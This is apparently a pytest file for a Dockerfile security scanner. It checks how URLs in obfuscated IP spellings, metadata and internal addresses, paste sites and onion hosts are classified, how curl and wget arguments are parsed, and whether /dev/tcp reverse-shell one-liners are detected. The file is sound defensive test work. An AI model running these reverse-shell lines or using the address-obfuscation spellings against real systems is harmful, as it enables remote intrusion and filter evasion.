"""What a URL shows by itself, and how downloaders' arguments are read."""

from __future__ import annotations

import pytest

from t1612core import score_dockerfile
from t1612core.container.dockerfile import calls, sources
from t1612core.knowledge.dockerfile.lexicon import LEXICON
from t1612core.shell.deposits import deposit
from t1612core.shell.outputs import reaches
from t1612core.shell.script import Scope
from t1612core.shell.sh import read
from t1612core.shell.source import Source

ADDRESSES = [
    ("http://203.0.113.5/x", ["address_source"]),
    ("https://203.0.113.5", ["address_source"]),
    ("203.0.113.5:8080/x", ["address_source"]),
    ("http://0xcb007105/x", ["address_source"]),
    ("http://3405803781/x", ["address_source"]),
    ("http://0313.0.0161.05/x", ["address_source"]),
    ("http://203.0x0.28933/x", ["address_source"]),
    ("http://2130706433/x", []),  # 127.0.0.1
    ("http://0x7f.1/x", []),
    ("http://1.2.3.4.5/x", ["plain_http_source"]),
    ("http://user:pass@203.0.113.5/x", ["address_source"]),
    ("http://[2001:db8::5]:80/x", ["address_source"]),
    ("http://[::ffff:203.0.113.5]/x", ["address_source"]),
    ("http://[::ffff:10.0.0.1]/x", ["internal_address_source"]),
    ("http://[fe80::1]/x", ["internal_address_source"]),
    ("http://[64:ff9b::10.0.0.1]/x", ["internal_address_source"]),
    ("http://224.0.0.1/x", []),
    ("http://999.1.1.1/x", ["plain_http_source"]),  # no address, so a name
    ("http://100.64.0.1/x", ["internal_address_source"]),
    ("http://169.254.169.254/x", ["internal_address_source"]),
    ("http://[::1]/x", []),
    ("http://LOCALHOST/x", []),
    ("http://0.0.0.0/x", []),
    ("https://files.example/x", []),
    ("HTTP://files.example/x", ["plain_http_source"]),
    ("ftp://files.example/x", ["plain_http_source"]),
    ("files.example/x", ["plain_http_source"]),
    ("https://raw.pastebin.com/x", ["drop_host_source"]),
    ("https://notpastebin.com/x", []),
    ("https://abc.onion", ["onion_source"]),
    ("http://$HOST/x", []),
    ("http://" + "a." * 200 + "example/x", []),
    ("/x", []),
]


@pytest.mark.parametrize(("url", "expected"), ADDRESSES)
def test_a_url_shows_whose_host_it_is(url: str, expected: list[str]) -> None:
    """Addresses in every spelling that curl takes; names by the whole name."""
    assert expected == list(sources.facts_of(url, LEXICON))


DOWNLOADS = [
    ("curl u", ["u"], []),
    ("curl -fsSLo x u", ["u"], ["x"]),
    ("curl -ox u", ["u"], ["x"]),
    ("curl --output=x u v", ["u", "v"], ["x"]),
    ("curl --output x --retry 5 u", ["u"], ["x"]),
    ("curl -o - u", ["u"], []),
    ("curl -sSLO u/y", ["u/y"], ["y"]),
    ("curl --remote-name u/y", ["u/y"], ["y"]),
    ("curl -H 'A: b' -X POST -d @x u", ["u"], []),
    ("curl -o", [], []),
    ("wget u/y", ["u/y"], ["y"]),
    ("wget -qO- u", ["u"], []),
    ("wget -qO x u", ["u"], ["x"]),
    ("wget --output-document=/dev/stdout u", ["u"], ["/dev/stdout"]),
    ("wget -T 5 -t3 u/y", ["u/y"], ["y"]),
    ("wget - u/y", ["u/y"], ["y"]),
]


@pytest.mark.parametrize(("line", "urls", "paths"), DOWNLOADS)
def test_a_downloader_says_what_it_fetches_and_where_it_goes(
    line: str, urls: list[str], paths: list[str]
) -> None:
    """Options and their values are told from what is fetched."""
    (command,) = read(Source.of(line, [(0, len(line))]), Scope()).pipelines[0].commands
    (call,) = calls.calls(command, LEXICON.wrappers, LEXICON.grammar.known.__getitem__)
    found = reaches(LEXICON.feeders[call.program], call.words)
    placed = deposit(LEXICON.depositors[call.program], call.words, 0, "")

    assert [urls, paths] == [
        [each.word.text for each in found],
        [*(placed.paths if placed else ())],
    ]


@pytest.mark.parametrize(
    ("line", "is_shell"),
    [
        ("exec 5<>/dev/tcp/203.0.113.5/1; sh <&5", True),
        ("exec 5<>/dev/tcp/203.0.113.5/1; cat <&5 | sh", True),
        ("exec 5<>/dev/tcp/203.0.113.5/1; sh >&2", False),  # its own standard error
        ("exec 5<>/dev/tcp/203.0.113.5/1; make 2>&1", False),
    ],
)
def test_what_is_joined_to_an_open_connection_is_no_standard_one(line: str, is_shell: bool) -> None:
    signals = score_dockerfile(f"FROM a\nRUN {line}").signals

    assert is_shell == ("dockerfile.reverse_shell" in signals)
